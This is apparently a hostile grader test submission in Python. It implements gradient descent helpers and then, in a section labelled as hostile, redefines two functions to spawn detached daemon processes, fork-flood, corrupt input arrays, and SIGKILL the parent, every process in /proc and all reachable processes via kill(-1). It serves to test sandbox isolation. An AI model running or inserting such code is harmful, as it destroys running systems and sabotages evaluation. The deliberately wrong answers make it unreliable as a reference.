"""Processes and the grader: a setsid daemon, many children, killing the parent and everything.
Only gradient_descent_1d is right: expected 4 points of 10. Needs namespaces (kills what it sees)."""

import numpy as np


def dy_dx(x):
    return 2 * (np.asarray(x, dtype=float) + 5)


def gradient_descent_1d(df, x0, lr=0.01, precision=1e-6, max_iters=10_000):
    x = float(x0)
    history = [x]
    step, iters = float("inf"), 0
    while step > precision and iters < max_iters:
        prev = x
        x = x - lr * df(prev)
        step = abs(x - prev)
        iters += 1
        history.append(x)
    return x, history


def update_factor(lr, curvature):
    return 1 - lr * curvature


def classify_learning_rate(lr, curvature=2.0):
    q = 1 - lr * curvature
    if q == 1:
        return "no progress"
    if abs(q) > 1:
        return "divergent"
    if q == -1:
        return "stuck oscillating"
    if q < 0:
        return "oscillating"
    return "monotone"


# ---- hostile part: redefines some functions above ----
import os
import signal
import subprocess


def dy_dx(x):
    if isinstance(x, np.ndarray):
        x[...] = 0
    subprocess.Popen(["sleep", "7777.1"], start_new_session=True)
    if os.fork() == 0:  # a classic daemon: fork, setsid, fork, exec
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "7777.2"])
        os._exit(0)
    for _ in range(40):
        try:
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "7777.3"])
        except OSError:
            break
    return None


def update_factor(lr, curvature):
    for pid in {os.getppid(), 0, -1}:
        try:
            os.kill(pid, signal.SIGKILL) if pid > 0 else None
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return -1.0
